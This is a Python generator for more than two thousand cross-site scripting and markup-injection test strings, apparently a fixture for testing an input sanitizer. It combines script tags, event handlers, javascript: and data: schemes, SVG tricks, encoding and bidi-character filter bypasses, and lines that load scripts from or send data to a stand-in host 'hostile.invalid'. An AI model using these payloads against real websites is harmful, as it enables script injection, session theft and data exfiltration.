"""More than two thousand strings that nobody should get to run, hide or reorder anything with; the same at every run.

Known ways in, crossed with ways around a filter. What would run calls `ran` or asks for something of `EVIL`.
"""

from collections.abc import Iterable
from itertools import cycle, islice, product

EVIL = "hostile.invalid"
LEAST, LONGEST = 350, 190  # of each category; a name has room for 200 characters
CALLS = [
    "ran(1)",
    "alert(1)",
    "self['ran'](1)",
    "top.ran`1`",
    "eval('ra'+'n(1)')",
    "[1].find(ran)",
    "document.title=ran(1)",
    f"fetch('//{EVIL}/x')",
    f"location='//{EVIL}/'",
    "setTimeout('ran(1)')",
    "import('data:text/javascript,ran(1)')",
    "Function`ran(1)```",
]
SCRIPTS = [
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script\n>{}</script\n>",
    "<script/x>{}</script>",
    "<script type=module>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "</script><script>{}</script>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "<!--<script>{}</script>",
    "<noscript><p title='</noscript><script>{}</script>'>",
    "<template><script>{}</script></template>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "＜script＞{}＜/script＞",
    "<\x00script>{}</script>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<math><style><img src=x onerror={}></style></math>",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{% raw %}}<script>{}</script>",
    "${{{}}}",
    f"<script src=//{EVIL}/{{}}></script>",
    f"<base href=//{EVIL}/><script>{{}}</script>",
    f"<meta http-equiv=refresh content='0;url=//{EVIL}/?{{}}'>",
    f"<link rel=stylesheet href=//{EVIL}/{{}}>",
]
TAGS = [
    "img src=x",
    "b",
    "input autofocus",
    "details open",
    "video src=x",
    "body",
    "a href=#",
    "x tabindex=1",
    "iframe",
]
EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onmouseover", "onbeforetoggle", "ONCLICK", "onanimationstart"]
BREAKS = ['"', "'", "`", '">', "'>", 'x" ', "\" x='", '"\n', "&quot;", '\\"', "\u201d ", '"/']
SCHEMES = [
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    "\x01javascript:",
    " javascript:",
    "javascript&colon;",
    "&#106;avascript:",
    "&#x6a;avascript&#58;",
    "java%73cript:",
    "view-source:javascript:",
    "vbscript:",
    "data:text/html,",
    "data:image/svg+xml,",
    "blob:",
    "filesystem:",
    "file:///",
    f"//{EVIL}/",
    f"\\\\{EVIL}\\",
    f"https:{EVIL}/",
    f"http://127.0.0.1@{EVIL}/",
    "feed:javascript:",
    "jar:javascript:",
    "mailto:a@b.nl?subject=x%0aBcc:",
    "ms-word:ofe|u|",
    "javascript://%0a",
    "\u200bjavascript:",
    "JAVA\u017fCRIPT:",
]
LINKS = [
    "[klik]({})",
    "[klik](<{}>)",
    '[klik]({} "titel")',
    "![klik]({})",
    "<{}>",
    "[klik][1]\n\n[1]: {}",
    "<a href='{}'>klik</a>",
    "{}",
    "<form action='{}'><button>klik</button></form>",
    "[![]({})](x)",
    "<iframe src='{}'></iframe>",
    "[a](x){{href='{}'}}",
]
AROUND = [
    "**{}**",
    "*{}*",
    "~~{}~~",
    "> {}",
    "- {}",
    "1. {}",
    "# {}",
    "| {} |\n|---|",
    "`{}`",
    "    {}",
    "[{}](x)",
    "\\{}",
]
INSIDE = [
    "<b onclick=ran(1)>x</b>",
    "[x](javascript:ran(1))",
    '![x](x"onerror=ran(1))',
    "<img src=x onerror=ran(1)>",
    '[x](https://b.nl/"onmouseover=ran(1))',
    '[x](https://b.nl "a\\"onclick=ran(1)")',
    "<https://b.nl/'onclick='ran(1)>",
    "***_**_*~~x",
    "[[[[x]]]](((x",
    "<!--",
    "</p></div></main>",
    "x|y|z\n|:-|",
]
CONTROLS = ["\u202e", "\u202d", "\u202a", "\u202b", "\u2066", "\u2067", "\u2068", "\u200f", "\u061c", "\u2069\u202e"]
ZERO = ["\u200b", "\u200d", "\u200c", "\ufeff", "\u2060", "\u00ad", "\u034f", "\u180e", "\u3164", "\U000e0041"]
TEXTS = [
    "{c}gnissam",
    "abc{c}fdp.exe",
    "Els{c} Terpstra",
    "{c}שלום{c} 12 (a)",
    "مرحبا {c}1-2-3",
    "{c}{c}{c}{c}diep",
    "({c}[{c}<b>{c}",
    "a{c}d{c}m{c}i{c}n",
    "{c}<img src=x onerror=ran(1)>",
    "java{c}script:ran(1)",
    "<scr{c}ipt>ran(1)</script>",
    "[x](java{c}script:ran(1))",
    "docent{c}@school.example",
    "Z{c}" + "\u0335\u0489" * 20,
    "\u0627\u0644\u0639{c} =1+1",
    "{c}\u0130\u0131\u1e9e\ufdfa",
    "{c}" + "W" * 150,
    "{c}👨‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
]
DRAWINGS = [
    "<svg onload={}>",
    "<svg/onload={}//",
    "<svg><script>{}</script></svg>",
    "<svg><script href='data:text/javascript,{}'/></svg>",
    "<svg><a xlink:href='javascript:{}'><text y=20>klik</text></a></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set attributeName=href to='javascript:{}'>",
    "<svg><a><animate attributeName=href values='javascript:{}'/></a></svg>",
    "<svg><foreignObject><img src=x onerror={}></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'/></svg>",
    f"<svg><image href='//{EVIL}/{{}}'/></svg>",
    f"<svg><style>@import '//{EVIL}/{{}}';</style></svg>",
    "<svg><style><img src=x onerror={}></style></svg>",
    "<svg><title><style><img src=x onerror={}></style></title></svg>",
    "<svg><desc><![CDATA[</desc><script>{}</script>]]></svg>",
    "<svg><discard onbegin={}>",
    "<svg><handler type='text/javascript' ev:event=load>{}</handler></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>",
    "<?xml version='1.0'?><svg onload='{}'/>",
    "<!DOCTYPE svg [<!ENTITY x '{}'>]><svg>&x;</svg>",
    "<math><mtext><svg><mglyph><style><img src=x onerror={}>",
    "<svg width=99999 height=99999><rect width=99999 onclick={}></svg>",
    "![x](data:image/svg+xml,<svg onload={}>)",
    "[x](data:image/svg+xml;utf8,<svg onload={}>)",
    "<img src='data:image/svg+xml,<svg onload={}>'>",
    "<embed src='data:image/svg+xml,<svg onload={}>'>",
    "<svg><p><style><!--</style><img src=x onerror={}>-->",
    "</svg><svg onload={}><svg>",
    "&lt;svg onload={}&gt;",
    "<SVG ONLOAD={}>",
]


def made() -> dict[str, list[str]]:
    """Every string, by category: each once, without the null that no database keeps, and none too long for a name."""
    return {
        "script": _least(frame.format(call) for call, frame in product(CALLS, SCRIPTS)),
        "attribute": _least(_attributes()),
        "scheme": _least(link.format(f"{scheme}{call}") for call, link, scheme in product(CALLS[:2], LINKS, SCHEMES)),
        "nesting": _least(_nested()),
        "direction": _least(text.format(c=sign) for text, sign in product(TEXTS, [*CONTROLS, *ZERO])),
        "svg": _least(drawing.format(call) for call, drawing in product(CALLS, DRAWINGS)),
    }


def mixed() -> list[str]:
    """All strings, of every category in turn, so that each writer has some of all."""
    lists = made().values()
    longest = max(len(one) for one in lists)
    return [one[at] for at in range(longest) for one in lists if at < len(one)]


def _attributes():
    for call, (out, (tag, event)) in zip(
        cycle(CALLS), product(BREAKS, zip(cycle(TAGS), EVENTS, strict=False)), strict=False
    ):
        yield f"{out}{event}={call} "
        yield f"<{tag} {event}={out}{call}>"
        yield f"<{tag} x={out} {event}={call} style=position:fixed;inset:0>"
        yield f"{out}style=background:url(//{EVIL}/{call}) {event}=1"


def _nested():
    for outer, middle, inside in product(AROUND, AROUND[:6], INSIDE):
        yield outer.format(middle.format(inside))
    for mark in ("> ", "- ", "*", "[", "![", "~~", "_", "|", "\\", "#", "<", "&#x3c;"):
        yield mark * (LONGEST // len(mark) - 1) + "x"


def _least(strings: Iterable[str]) -> list[str]:
    once = dict.fromkeys(one.replace("\x00", "").strip() for one in strings)
    return list(islice((one for one in once if one and len(one) <= LONGEST), LEAST))
